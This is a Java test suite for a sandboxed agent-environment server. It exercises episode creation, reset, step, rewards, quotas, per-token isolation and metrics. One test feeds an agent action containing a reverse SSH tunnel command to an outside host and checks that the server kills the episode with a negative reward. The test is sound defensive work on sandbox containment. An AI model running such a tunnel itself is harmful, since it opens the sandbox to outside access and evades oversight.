package dev.ale.server;

import com.fasterxml.jackson.databind.JsonNode;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;

import static dev.ale.server.LiveServer.ADMIN;
import static dev.ale.server.LiveServer.ALICE;
import static dev.ale.server.LiveServer.BOB;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

@Tag("root")
@Timeout(300)
class EnvApiTest {

    @RegisterExtension
    static final LiveServer live = new LiveServer();

    private static final String WRITE_HELLO = "{\"action\": {\"type\": \"function\", \"function\": {\"name\": \"write_file\","
            + " \"arguments\": \"{\\\"path\\\": \\\"out.txt\\\", \\\"content\\\": \\\"hello\\\\n\\\"}\"}}}";
    private static final String FINISH = "{\"action\": {\"tool\": \"finish\", \"arguments\": {\"summary\": \"done\"}}}";
    private static final String TUNNEL = "{\"action\": {\"name\": \"shell\", \"arguments\": {\"command\": \"ssh -N -R 2222:localhost:22 x@203.0.113.9\"}}}";

    private static String make(String token, String body) {
        LiveServer.Reply r = live.call("POST", "/v1/envs", token, body);
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        return r.json().get("env_id").asText();
    }

    private static JsonNode ok(LiveServer.Reply r) {
        assertThat(r.status()).as(r.body()).isEqualTo(200);
        return r.json();
    }

    @Test
    void aTaskIsSolvedThroughTheNativeApiForRewardOne() {
        String id = make(ALICE, "{\"task\": \"greet\", \"seed\": 7}");
        assertThat(live.call("GET", "/v1/envs/" + id, ALICE, null).json().get("state").asText()).isEqualTo("new");

        JsonNode reset = ok(live.call("POST", "/v1/envs/" + id + "/reset", ALICE, "{}"));
        assertThat(reset.get("observation").asText()).contains("/workspace/note.txt");
        assertThat(reset.get("info").get("seed").asLong()).isEqualTo(7);
        assertThat(reset.get("info").get("tools").findValuesAsText("name")).contains("shell", "write_file", "finish");

        JsonNode read = ok(live.call("POST", "/v1/envs/" + id + "/step", ALICE,
                "{\"action\": {\"name\": \"shell\", \"arguments\": {\"command\": \"cat note.txt .setup-ran\"}}}"));
        assertThat(read.get("observation").asText()).contains("the word is hello").contains("set-up");
        assertThat(read.get("reward").asDouble()).isZero();
        assertThat(read.get("terminated").asBoolean()).isFalse();
        assertThat(read.get("info").get("step").asInt()).isEqualTo(1);
        assertThat(read.get("info").get("tool_status").asText()).isEqualTo("ok");

        assertThat(ok(live.call("POST", "/v1/envs/" + id + "/step", ALICE, WRITE_HELLO)).get("terminated").asBoolean()).isFalse();
        JsonNode done = ok(live.call("POST", "/v1/envs/" + id + "/step", ALICE, FINISH));
        assertThat(done.get("terminated").asBoolean()).isTrue();
        assertThat(done.get("truncated").asBoolean()).isFalse();
        assertThat(done.get("reward").asDouble()).isEqualTo(1.0);
        assertThat(done.get("info").get("verifier").get("passed").asBoolean()).isTrue();
        assertThat(done.get("info").get("end_reason").asText()).isEqualTo("finished");
        assertThat(done.get("info").get("kill_reason").isNull()).isTrue();

        LiveServer.Reply after = live.call("POST", "/v1/envs/" + id + "/step", ALICE, FINISH);
        assertThat(after.status()).isEqualTo(409);
        assertThat(after.errorCode()).isEqualTo("env_not_running");
        assertThat(live.call("GET", "/v1/envs/" + id, ALICE, null).json().get("state").asText()).isEqualTo("ended");
        assertThat(live.server().sandboxCount()).isZero();

        // a second episode in the same environment starts afresh
        ok(live.call("POST", "/v1/envs/" + id + "/reset", ALICE, "{\"seed\": 8}"));
        JsonNode fresh = ok(live.call("POST", "/v1/envs/" + id + "/step", ALICE, "{\"action\": {\"name\": \"shell\", \"arguments\": {\"command\": \"ls out.txt\"}}}"));
        assertThat(fresh.get("observation").asText()).contains("No such file");

        assertThat(ok(live.call("POST", "/v1/envs/" + id + "/close", ALICE, null)).get("state").asText()).isEqualTo("closed");
        assertThat(live.call("GET", "/v1/envs/" + id, ALICE, null).status()).isEqualTo(404);
    }

    @Test
    void theRockPathsRunAWholeEpisode() {
        JsonNode made = ok(live.call("POST", EnvRoutes.ROCK + "/make", BOB, "{\"env_id\": \"greet\"}"));
        String sid = made.get("sandbox_id").asText();
        assertThat(made.size()).isEqualTo(1);

        JsonNode reset = ok(live.call("POST", EnvRoutes.ROCK + "/reset", BOB, "{\"sandbox_id\": \"" + sid + "\", \"seed\": 42}"));
        assertThat(reset.fieldNames()).toIterable().containsExactly("observation", "info");
        assertThat(reset.get("info").get("seed").asLong()).isEqualTo(42);

        ok(live.call("POST", EnvRoutes.ROCK + "/step", BOB, "{\"sandbox_id\": \"" + sid + "\"," + WRITE_HELLO.substring(1)));
        JsonNode done = ok(live.call("POST", EnvRoutes.ROCK + "/step", BOB, "{\"sandbox_id\": \"" + sid + "\"," + FINISH.substring(1)));
        assertThat(done.fieldNames()).toIterable().containsExactly("observation", "reward", "terminated", "truncated", "info");
        assertThat(done.get("reward").asDouble()).isEqualTo(1.0);
        assertThat(done.get("terminated").asBoolean()).isTrue();

        JsonNode list = ok(live.call("POST", EnvRoutes.ROCK + "/list", BOB, "{}"));
        assertThat(list.get("env_id").findValuesAsText("")).isEmpty();
        assertThat(list.get("env_id").toString()).contains("greet", "greet-short");
        assertThat(list.get("sandboxes").findValuesAsText("sandbox_id")).containsExactly(sid);

        assertThat(ok(live.call("POST", EnvRoutes.ROCK + "/close", BOB, "{\"sandbox_id\": \"" + sid + "\"}")).get("sandbox_id").asText()).isEqualTo(sid);
        assertThat(live.call("POST", EnvRoutes.ROCK + "/reset", BOB, "{\"sandbox_id\": \"" + sid + "\"}").status()).isEqualTo(404);
    }

    @Test
    void aReverseSshTunnelIsKilledAndTheEpisodeEndsWithANegativeReward() {
        String id = make(BOB, "{\"task\": \"greet\"}");
        ok(live.call("POST", "/v1/envs/" + id + "/reset", BOB, null));
        JsonNode killed = ok(live.call("POST", "/v1/envs/" + id + "/step", BOB, TUNNEL));
        assertThat(killed.get("terminated").asBoolean()).isTrue();
        assertThat(killed.get("info").get("kill_reason").asText()).isEqualTo("tunnel.ssh.remote-forward");
        assertThat(killed.get("reward").asDouble()).isNegative();
        assertThat(killed.get("observation").asText()).contains("[ALE] killed by rule tunnel.ssh.remote-forward");
        assertThat(killed.get("info").get("events").findValuesAsText("action")).contains("kill");
        assertThat(killed.get("info").get("tool_status").asText()).isEqualTo("killed");
        assertThat(killed.get("info").get("verifier").isNull()).isTrue();
        assertThat(live.call("GET", "/metrics", ADMIN, null).body()).contains("ale_env_kills_total 1.0")
                .contains("ale_env_step_duration_seconds_count").contains("ale_env_episodes_total{end=\"killed\"}");
    }

    @Test
    void theStepBudgetTruncatesAndTheVerifierStillRuns() {
        String id = make(BOB, "{\"task_dir\": \"greet-short\"}");
        ok(live.call("POST", "/v1/envs/" + id + "/reset", BOB, null));
        JsonNode first = ok(live.call("POST", "/v1/envs/" + id + "/step", BOB, "{\"action\": {\"name\": \"list_dir\", \"arguments\": {}}}"));
        assertThat(first.get("truncated").asBoolean()).isFalse();
        JsonNode last = ok(live.call("POST", "/v1/envs/" + id + "/step", BOB, "{\"action\": {\"name\": \"list_dir\", \"arguments\": {}}}"));
        assertThat(last.get("truncated").asBoolean()).isTrue();
        assertThat(last.get("terminated").asBoolean()).isFalse();
        assertThat(last.get("info").get("end_reason").asText()).isEqualTo("step_budget");
        assertThat(last.get("info").get("verifier").get("passed").asBoolean()).isFalse();
        assertThat(last.get("reward").asDouble()).isZero();
    }

    @Test
    void malformedActionsComeBackAsObservationsNotErrors() {
        String id = make(BOB, "{\"task\": \"greet\"}");
        ok(live.call("POST", "/v1/envs/" + id + "/reset", BOB, null));
        String step = "/v1/envs/" + id + "/step";
        JsonNode badArgs = ok(live.call("POST", step, BOB, "{\"action\": {\"name\": \"shell\", \"arguments\": \"{\\\"command\\\": \"}}"));
        assertThat(badArgs.get("observation").asText()).contains("not a JSON object");
        assertThat(badArgs.get("info").get("tool_status").asText()).isEqualTo("error");
        assertThat(ok(live.call("POST", step, BOB, "{\"action\": {\"name\": \"teleport\"}}")).get("observation").asText())
                .contains("no tool named `teleport`").contains("shell");
        JsonNode number = ok(live.call("POST", step, BOB, "{\"action\": 3}"));
        assertThat(number.get("observation").asText()).contains("must be a JSON object");
        assertThat(number.get("info").get("tool_status").asText()).isEqualTo("malformed");
        assertThat(ok(live.call("POST", step, BOB, "{}")).get("observation").asText()).contains("no action");
        assertThat(ok(live.call("POST", step, BOB, "{\"action\": {\"arguments\": {}}}")).get("observation").asText()).contains("names no tool");

        assertThat(live.call("POST", step, BOB, "not json").errorCode()).isEqualTo("bad_request");
        assertThat(live.call("POST", step, BOB, "[1]").status()).isEqualTo(400);
        assertThat(live.call("POST", step, BOB, "{\"act\": {}}").errorCode()).isEqualTo("invalid_field");
    }

    @Test
    void badRequestsAreRefusedWithTheFieldNamed() {
        assertThat(live.call("POST", "/v1/envs", BOB, "{\"task\": \"nope\"}").json().path("error").path("message").asText()).contains("nope").contains("greet");
        assertThat(live.call("POST", "/v1/envs", BOB, "{}").errorCode()).isEqualTo("invalid_field");
        assertThat(live.call("POST", "/v1/envs", BOB, "{\"task\": \"greet\", \"task_dir\": \"greet\"}").errorCode()).isEqualTo("invalid_field");
        assertThat(live.call("POST", "/v1/envs", BOB, "{\"task\": \"greet\", \"seed\": 1.5}").errorCode()).isEqualTo("invalid_field");
        assertThat(live.call("POST", "/v1/envs", BOB, "{\"task\": \"greet\", \"passport\": {\"id\": \"mine\"}}").status()).isEqualTo(403);
        assertThat(live.call("POST", "/v1/envs", BOB, "{\"task\": \"greet\", \"passport\": \"small\"}").json().get("passport").asText()).isEqualTo("small");
        assertThat(live.call("POST", EnvRoutes.ROCK + "/make", BOB, "{}").errorCode()).isEqualTo("invalid_field");
        assertThat(live.call("POST", EnvRoutes.ROCK + "/step", BOB, "{\"action\": {}}").errorCode()).isEqualTo("invalid_field");
        assertThat(live.call("POST", EnvRoutes.ROCK + "/make", null, "{\"env_id\": \"greet\"}").status()).isEqualTo(401);
        assertThat(live.call("POST", "/v1/envs/env-nope/reset", BOB, null).status()).isEqualTo(404);
        String id = make(BOB, "{\"task\": \"greet\"}");
        LiveServer.Reply early = live.call("POST", "/v1/envs/" + id + "/step", BOB, FINISH);
        assertThat(early.status()).isEqualTo(409);
        assertThat(early.json().path("error").path("message").asText()).contains("reset");
    }

    @Test
    void anEnvTokenSeesOnlyItsOwnEnvironments() {
        String alices = make(ALICE, "{\"task\": \"greet\"}");
        String bobs = make(BOB, "{\"task\": \"greet\"}");
        assertThat(live.call("GET", "/v1/envs", ALICE, null).json().get("envs").findValuesAsText("env_id")).containsExactly(alices);
        assertThat(live.call("GET", "/v1/envs", ADMIN, null).json().get("envs").findValuesAsText("env_id")).contains(alices, bobs);
        for (String path : List.of("/reset", "/step", "/close")) {
            LiveServer.Reply r = live.call("POST", "/v1/envs/" + alices + path, BOB, "{}");
            assertThat(r.status()).as(path).isEqualTo(404);
            assertThat(r.json().path("error").path("message").asText()).isEqualTo("no environment " + alices);
        }
        assertThat(live.call("GET", "/v1/envs/" + alices, BOB, null).status()).isEqualTo(404);
        assertThat(live.call("POST", EnvRoutes.ROCK + "/reset", BOB, "{\"sandbox_id\": \"" + alices + "\"}").status()).isEqualTo(404);
        assertThat(live.call("POST", EnvRoutes.ROCK + "/close", BOB, "{\"sandbox_id\": \"" + alices + "\"}").status()).isEqualTo(404);
        assertThat(live.call("POST", EnvRoutes.ROCK + "/list", BOB, null).json().get("sandboxes").findValuesAsText("sandbox_id")).containsExactly(bobs);
        assertThat(live.call("GET", "/v1/envs/" + alices, ADMIN, null).status()).isEqualTo(200);
    }

    @Test
    void environmentsCountAgainstTheSandboxQuota() {
        live.create(ALICE);
        make(ALICE, "{\"task\": \"greet\"}");
        LiveServer.Reply third = live.call("POST", "/v1/envs", ALICE, "{\"task\": \"greet\"}");
        assertThat(third.status()).isEqualTo(429);
        assertThat(live.call("POST", "/v1/sandboxes", ALICE, "{}").status()).isEqualTo(429);
        assertThat(live.call("POST", EnvRoutes.ROCK + "/make", ALICE, "{\"env_id\": \"greet\"}").errorCode()).isEqualTo("quota_exceeded");
    }

    @Test
    void anIdleEnvironmentIsClosedWithItsSandbox() {
        String id = make(BOB, "{\"task\": \"greet\", \"idle_timeout_seconds\": 1}");
        ok(live.call("POST", "/v1/envs/" + id + "/reset", BOB, null));
        assertThat(live.call("GET", "/v1/sandboxes", ADMIN, null).json().get("sandboxes")).as("env sandboxes are not in /v1/sandboxes").isEmpty();
        await().atMost(Duration.ofSeconds(20)).until(() -> live.call("GET", "/v1/envs/" + id, BOB, null).status() == 404);
        assertThat(live.server().envCount()).isZero();
        assertThat(live.server().sandboxCount()).isZero();
    }

    @Test
    void healthAndMetricsCountTheSandboxesGemEpisodesHold() {
        String id = make(BOB, "{\"task\": \"greet\"}");
        live.create(BOB);
        assertThat(live.call("GET", "/healthz", null, null).json().get("sandboxes").asInt()).as("no episode yet").isEqualTo(1);
        ok(live.call("POST", "/v1/envs/" + id + "/reset", BOB, null));
        JsonNode health = live.call("GET", "/healthz", null, null).json();
        assertThat(health.get("sandboxes").asInt()).isEqualTo(2);
        assertThat(health.get("envs").asInt()).isEqualTo(1);
        assertThat(live.call("GET", "/metrics", ADMIN, null).body()).containsPattern("(?m)^ale_sandboxes_active 2\\.0$");
        ok(live.call("POST", "/v1/envs/" + id + "/step", BOB, FINISH));
        assertThat(live.call("GET", "/healthz", null, null).json().get("sandboxes").asInt()).as("the episode ended").isEqualTo(1);
        assertThat(live.call("GET", "/metrics", ADMIN, null).body()).containsPattern("(?m)^ale_sandboxes_active 1\\.0$");
    }

    /** Many trainers' workers at once, each on its own environment: make, reset, solve, close. */
    @Test
    void manyEnvironmentsAreDrivenAtOnce() throws Exception {
        int n = Integer.getInteger("ale.test.parallelEnvs", 100);
        try (ExecutorService pool = Executors.newVirtualThreadPerTaskExecutor()) {
            List<Future<Double>> rewards = new ArrayList<>();
            for (int i = 0; i < n; i++) {
                rewards.add(pool.submit(() -> {
                    String sid = ok(live.call("POST", EnvRoutes.ROCK + "/make", BOB, "{\"env_id\": \"greet\"}")).get("sandbox_id").asText();
                    ok(live.call("POST", EnvRoutes.ROCK + "/reset", BOB, "{\"sandbox_id\": \"" + sid + "\"}"));
                    ok(live.call("POST", EnvRoutes.ROCK + "/step", BOB, "{\"sandbox_id\": \"" + sid + "\"," + WRITE_HELLO.substring(1)));
                    double r = ok(live.call("POST", EnvRoutes.ROCK + "/step", BOB, "{\"sandbox_id\": \"" + sid + "\"," + FINISH.substring(1)))
                            .get("reward").asDouble();
                    ok(live.call("POST", EnvRoutes.ROCK + "/close", BOB, "{\"sandbox_id\": \"" + sid + "\"}"));
                    return r;
                }));
            }
            for (Future<Double> f : rewards) assertThat(f.get()).isEqualTo(1.0);
        }
        assertThat(live.server().envCount()).isZero();
    }
}
